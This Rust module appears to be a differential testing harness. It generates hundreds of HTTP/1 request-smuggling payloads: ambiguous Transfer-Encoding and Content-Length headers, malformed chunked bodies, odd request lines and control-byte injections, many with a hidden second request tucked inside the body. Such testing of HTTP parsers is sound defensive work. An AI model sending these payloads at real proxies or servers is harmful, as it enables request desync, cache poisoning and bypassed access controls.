//! Payloads in which one reader finds another number of requests, or other bodies, than the next.
//!
//! **Source**: Spec: RFC 9112 §6 and §11.2. `NNNNN` stands for the payload's number: it keeps its
//! length, so that lengths that are told stay as they are.

/// Where the number goes.
pub(super) const NUMBER: &str = "NNNNN";

const HIDDEN: &str = "GET /smuggled/NNNNN HTTP/1.1\r\nHost: web\r\nX-Case: NNNNN\r\n\r\n";
/// What follows each payload on its connection.
const TAIL: &str = "GET /c/NNNNN/9 HTTP/1.1\r\nHost: web\r\nConnection: close\r\n\r\n";

/// Lines that mean chunked framing to some reader, or are near to it.
const TRANSFER_ENCODINGS: [&str; 48] = [
    "Transfer-Encoding: chunked",
    "transfer-encoding: CHUNKED",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    " Transfer-Encoding: chunked",
    "\tTransfer-Encoding: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:  chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: chunked ",
    "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding: chunk",
    "Transfer-Encoding: chunked;",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: gzip",
    "Transfer-Encoding: identity",
    "Transfer-Encoding:",
    "Transfer-Encoding: ,",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: x, chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding: x\r\n chunked",
    "Transfer-Encoding: chunked\r\n x",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "X: y\r\n\r\nTransfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\r\rTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer.Encoding: chunked",
    "Transfer Encoding: chunked",
    "TE: chunked\r\nConnection: TE",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
];

/// Lengths for a body of five bytes, and what could be taken for one.
const LENGTHS: [&str; 44] = [
    "Content-Length: 5",
    "Content-Length:5",
    "Content-Length: 05",
    "Content-Length: 0000000000000000000005",
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: -0",
    "Content-Length: 0",
    "Content-Length: 0x5",
    "Content-Length: 5.0",
    "Content-Length: 5e0",
    "Content-Length: 5 0",
    "Content-Length: 5,",
    "Content-Length: 5,5",
    "Content-Length: 5, 5",
    "Content-Length: 5, 0",
    "Content-Length: 0, 5",
    "Content-Length: \"5\"",
    "Content-Length: 5;",
    "Content-Length: 5_0",
    "Content-Length: _5",
    "Content-Length: \u{665}",
    "Content-Length:",
    "Content-Length: x",
    "Content-Length: 5x",
    "Content-Length: 18446744073709551621",
    "Content-Length: 4294967301",
    "Content-Length: 9223372036854775813",
    "Content-Length: 99999999999999999999999999",
    "Content-Length : 5",
    " Content-Length: 5",
    "Content-Length\t: 5",
    "Content-Length:\r\n 5",
    "Content-Length: 5\r\n 0",
    "Content-Length: 5\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: 5",
    "Content-Length: 5\r\ncontent-length: 50",
    "Content_Length: 5",
    "Content Length: 5",
    "Content-Length: 0\r\nContent_Length: 5",
    "Content-Length: 5\r\nConnection: Content-Length",
    "X: y\nContent-Length: 5",
    "X: y\rContent-Length: 5",
];

/// Chunked bodies, most of them wrong.
const CHUNKS: [&str; 62] = [
    "5\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello\r\n00\r\n\r\n",
    "005\r\nhello\r\n0\r\n\r\n",
    "5\nhello\r\n0\r\n\r\n",
    "5\rhello\r\n0\r\n\r\n",
    "5\r\nhello\n0\r\n\r\n",
    "5\r\nhello\r\n0\n\r\n",
    "5\r\nhello\r\n0\r\n\n",
    "5\r\nhello\r\n0\n\n",
    "5\r\nhello0\r\n\r\n",
    "5\r\nhello\r0\r\n\r\n",
    "5\r\nhello\r\r0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "4\r\nhello\r\n0\r\n\r\n",
    "6\r\nhello\r\n0\r\n\r\n",
    "7\r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    "5\t\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    "-5\r\nhello\r\n0\r\n\r\n",
    "-0\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n",
    "0X5\r\nhello\r\n0\r\n\r\n",
    "5h\r\nhello\r\n0\r\n\r\n",
    "5_\r\nhello\r\n0\r\n\r\n",
    "0_5\r\nhello\r\n0\r\n\r\n",
    "5,0\r\nhello\r\n0\r\n\r\n",
    "5.0\r\nhello\r\n0\r\n\r\n",
    "\"5\"\r\nhello\r\n0\r\n\r\n",
    "\r\n5\r\nhello\r\n0\r\n\r\n",
    "g\r\nhello\r\n0\r\n\r\n",
    "100000005\r\nhello\r\n0\r\n\r\n",
    "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "fffffffffffffffb\r\nhello\r\n0\r\n\r\n",
    "ffffffffffffffff5\r\nhello\r\n0\r\n\r\n",
    "80000005\r\nhello\r\n0\r\n\r\n",
    "00000000000000000000000000000005\r\nhello\r\n0\r\n\r\n",
    "5;\r\nhello\r\n0\r\n\r\n",
    "5;a\r\nhello\r\n0\r\n\r\n",
    "5;a=b\r\nhello\r\n0;c=d\r\n\r\n",
    "5;a=\"b\"\r\nhello\r\n0\r\n\r\n",
    "5;a=\"\r\nhello\r\n0\r\n\r\n",
    "5;a\nhello\r\n0\r\n\r\n",
    "5;a\rhello\r\n0\r\n\r\n",
    "5;\n\r\nhello\r\n0\r\n\r\n",
    "5;a=\"\n\"\r\nhello\r\n0\r\n\r\n",
    "5;\nxx\r\n45\r\n0\r\n\r\n",
    "5 ; a\r\nhello\r\n0\r\n\r\n",
    "0\r\n\r\n",
    "0\r\nX-T: 1\r\n\r\n",
    "0\r\nX-T: 1\n\r\n",
    "0\r\nX-T: 1\n\n",
    "0\r\nContent-Length: 60\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "0\r\nHost: other\r\n\r\n",
    "0\r\nX-T : 1\r\n\r\n",
    "0\r\n X-T: 1\r\n\r\n",
    "0\r\nX-T\r\n\r\n",
    "0\r\n: 1\r\n\r\n",
    "0\r\nX-T: a\rb\r\n\r\n",
    "0\r\nX-Forwarded-Client-Cert: x\r\n\r\n",
];

/// Heads that ask for more than a request, or are none.
const LINES: [&str; 40] = [
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect: 100-continue\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect: 200-ok\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect: y 100-continue\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect:\r\n",
    "POST /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect: 100-continue\r\nContent-Length: 5\r\n",
    "POST /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nExpect: 100-Continue\r\nTransfer-Encoding: chunked\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: websocket\r\nConnection: upgrade\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: h2c\r\nConnection: upgrade, http2-settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: TLS/1.3\r\nConnection: upgrade\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: HTTP/1.1\r\nConnection: upgrade\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: x\r\nConnection: upgrade\r\nContent-Length: 5\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: x\r\nUpgrade: h2c\r\nConnection: upgrade\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nUpgrade: x, h2c\r\nConnection: upgrade\r\n",
    "CONNECT web:80 HTTP/1.1\r\nHost: web:80\r\n",
    "CONNECT /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "CONNECT web:80 HTTP/1.1\r\nHost: web:80\r\nContent-Length: 5\r\n",
    "GET /c/NNNNN/1 HTTP/1.0\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.0\r\nHost: web\r\nConnection: keep-alive\r\n",
    "POST /c/NNNNN/1 HTTP/1.0\r\nHost: web\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n",
    "POST /c/NNNNN/1 HTTP/1.0\r\nHost: web\r\nContent-Length: 5\r\nConnection: keep-alive\r\n",
    "POST /c/NNNNN/1 HTTP/1.0\r\nHost: web\r\nConnection: keep-alive\r\n",
    "GET /c/NNNNN/1\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/0.9\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.2\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/2.0\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.10\r\nHost: web\r\n",
    "GET /c/NNNNN/1 http/1.1\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.1x\r\nHost: web\r\n",
    "GET  /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "GET /c/NNNNN/1  HTTP/1.1\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.1 \r\nHost: web\r\n",
    "GET /c/NNNNN/1 x HTTP/1.1\r\nHost: web\r\n",
    "\r\nGET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "\r\n\r\n\r\nGET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "\nGET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nGET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n",
    "GET /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nContent-Length: 5\r\nTrailer: Content-Length\r\n",
    "HEAD /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nContent-Length: 5\r\n",
    "TRACE /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\nContent-Length: 5\r\n",
];

/// First bytes of other protocols, with lengths that are right, one off, and far off.
const NOT_HTTP: [&[u8]; 14] = [
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\x7f\0\0\x01\x7f\0\0\x01\0\x01\0\x02",
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0b\x7f\0\0\x01\x7f\0\0\x01\0\x01\0\x02",
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0d\x7f\0\0\x01\x7f\0\0\x01\0\x01\0\x02",
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff\x7f\0\0\x01\x7f\0\0\x01\0\x01\0\x02",
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x13\x7f\0\0\x01\x7f\0\0\x01\0\x01\0\x02\x04\0\x04\xff\xfe\xfd\xfc",
    b"\r\n\r\n\0\r\nQUIT\n\x20\0\0\0",
    b"PROXY UNKNOWN\r\n",
    b"\x16\x03\x01\0\xa5\x01\0\0\xa1\x03\x03",
    b"\x16\x03\x01\0\x05hello",
    b"\x05\x01\0",
    b"SSH-2.0-x\r\n",
    b"\0\0\0\x04\x10\0\0\0\0",
    b"\x81\x05hello",
    b"*1\r\n$4\r\nPING\r\n",
];

/// All payloads of HTTP/1, each whole, with the request that follows it.
pub(super) fn http1() -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for line in TRANSFER_ENCODINGS {
        out.extend(about_chunks(line.as_bytes()));
    }
    for line in LENGTHS {
        for method in ["POST", "GET", "DELETE"] {
            out.push(head(method, line.as_bytes(), b"hello"));
            out.push(head(
                method,
                format!("{line}\r\nTransfer-Encoding: chunked").as_bytes(),
                CHUNKS[0].as_bytes(),
            ));
        }
        out.push(head("POST", line.as_bytes(), HIDDEN.as_bytes()));
    }
    for chunks in CHUNKS {
        for method in ["POST", "GET"] {
            out.push(head(method, b"Transfer-Encoding: chunked", chunks.as_bytes()));
        }
        let hidden = format!("{chunks}{HIDDEN}");
        out.push(head("POST", b"Transfer-Encoding: chunked", hidden.as_bytes()));
    }
    for line in LINES {
        for body in ["", "hello", CHUNKS[0], HIDDEN] {
            out.push(format!("{line}\r\n{body}").into_bytes());
        }
    }
    for start in NOT_HTTP {
        out.push([start, &head("GET", b"X: y", b"")].concat());
        out.push(start.to_vec());
    }
    out.extend(with_bytes());
    out.iter_mut().for_each(|payload| payload.extend(TAIL.as_bytes()));
    out
}

/// A head with its body.
fn head(method: &str, lines: &[u8], body: &[u8]) -> Vec<u8> {
    let start = format!("{method} /c/NNNNN/1 HTTP/1.1\r\nHost: web\r\n");
    [start.as_bytes(), lines, b"\r\n\r\n", body].concat()
}

/// A line that may mean chunks, with lengths that say otherwise.
fn about_chunks(line: &[u8]) -> Vec<Vec<u8>> {
    let early = format!("0\r\n\r\n{HIDDEN}");
    let late = format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len());
    let size = late.find('\n').map_or(0, |at| at + 1);
    let with = |length: usize, first: bool| {
        let length = format!("Content-Length: {length}");
        match first {
            true => [length.as_bytes(), b"\r\n", line].concat(),
            false => [line, b"\r\n", length.as_bytes()].concat(),
        }
    };
    vec![
        head("POST", &with(early.len(), true), early.as_bytes()),
        head("POST", &with(early.len(), false), early.as_bytes()),
        head("POST", &with(size, true), late.as_bytes()),
        head("POST", &with(size, false), late.as_bytes()),
        head("POST", &with(0, true), late.as_bytes()),
        head("POST", line, late.as_bytes()),
        head("GET", line, early.as_bytes()),
    ]
}

/// Each control character and some others, at each place where a reader decides.
fn with_bytes() -> Vec<Vec<u8>> {
    let bytes = (0..=0x20_u8).chain([b'"', b',', b':', b';', b'\\', 0x7f, 0x80, 0x85, 0xa0, 0xff]);
    let late = format!("{:x}\r\n{HIDDEN}\r\n0\r\n\r\n", HIDDEN.len());
    let places: [(&str, &str, &str); 26] = [
        ("Transfer-Encoding: chunked@", "POST", &late),
        ("Transfer-Encoding: @chunked", "POST", &late),
        ("Transfer-Encoding: chun@ked", "POST", &late),
        ("Transfer-Encoding@: chunked", "POST", &late),
        ("@Transfer-Encoding: chunked", "POST", &late),
        ("Transfer@-Encoding: chunked", "POST", &late),
        ("Content-Length: 4\r\nTransfer-Encoding: chunked@", "POST", &late),
        ("Content-Length: 4\r\nTransfer-Encoding@: chunked", "POST", &late),
        ("Content-Length: 4\r\n@Transfer-Encoding: chunked", "POST", &late),
        ("X: y@Transfer-Encoding: chunked", "POST", &late),
        ("Content-Length: 5@", "POST", "hello"),
        ("Content-Length: @5", "POST", "hello"),
        ("Content-Length: 5@0", "POST", "hello"),
        ("Content-Length@: 5", "POST", "hello"),
        ("@Content-Length: 5", "POST", "hello"),
        ("X: y@Content-Length: 5", "POST", "hello"),
        ("X: y@\nContent-Length: 5", "POST", "hello"),
        ("X: y@", "GET", HIDDEN),
        ("Transfer-Encoding: chunked", "POST", "5@\r\nhello\r\n0\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "@5\r\nhello\r\n0\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5;a@b\r\nhello\r\n0\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5\r\nhello@\r\n0\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5\r\nhello\r\n0@\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5\r\nhello\r\n0\r\n@\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5\r\nhello\r\n0\r\nX-T: a@b\r\n\r\n"),
        ("Transfer-Encoding: chunked", "POST", "5\r\nhello\r\n0\r\nX-T@: a\r\n\r\n"),
    ];
    let put = |text: &str, byte: u8| {
        let text = text.as_bytes();
        match text.iter().position(|at| *at == b'@') {
            Some(at) => [&text[..at], &[byte], &text[at + 1..]].concat(),
            None => text.to_vec(),
        }
    };
    let mut out = Vec::new();
    for byte in bytes {
        for (lines, method, body) in places {
            out.push(head(method, &put(lines, byte), &put(body, byte)));
        }
        for line in [
            "G@ET /c/NNNNN/1 HTTP/1.1",
            "GET@/c/NNNNN/1 HTTP/1.1",
            "GET /c/NNNNN/1@x HTTP/1.1",
            "GET /c/NNNNN/1 HTTP/1.1@",
            "@GET /c/NNNNN/1 HTTP/1.1",
        ] {
            let end = b"\r\nHost: web\r\n\r\n";
            out.push([&put(line, byte)[..], end, HIDDEN.as_bytes()].concat());
        }
    }
    out
}
